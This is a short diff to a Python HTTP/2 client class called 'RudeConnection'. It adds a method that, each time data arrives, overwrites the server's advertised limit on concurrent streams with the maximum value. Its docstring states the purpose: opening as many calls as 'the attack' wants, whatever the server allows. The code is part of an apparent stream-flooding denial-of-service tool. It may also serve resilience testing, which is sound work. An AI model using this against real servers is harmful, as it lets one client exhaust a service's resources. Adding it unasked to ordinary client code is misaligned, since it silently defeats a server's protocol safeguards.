@@ -132,6 +132,7 @@ class RudeConnection:
             self._closed = True
             raise ConnectionError("the server closed the connection")
         events: list[h2.events.Event] = self._http2.receive_data(data)
+        self._ignore_stream_limit()
         for event in events:
             if isinstance(event, h2.events.DataReceived) and self._reads and event.flow_controlled_length:
                 self._http2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
@@ -166,6 +167,12 @@ class RudeConnection:
 
     def __exit__(self, *_: object) -> None:
         self.close()
+
+    def _ignore_stream_limit(self) -> None:
+        """Let as many calls be opened as the attack wants, whatever the server allows."""
+        settings = self._http2.remote_settings
+        settings[h2.settings.SettingCodes.MAX_CONCURRENT_STREAMS] = 2**31 - 1
+        settings.acknowledge()
 
     def _flush(self) -> None:
         if data := self._http2.data_to_send():
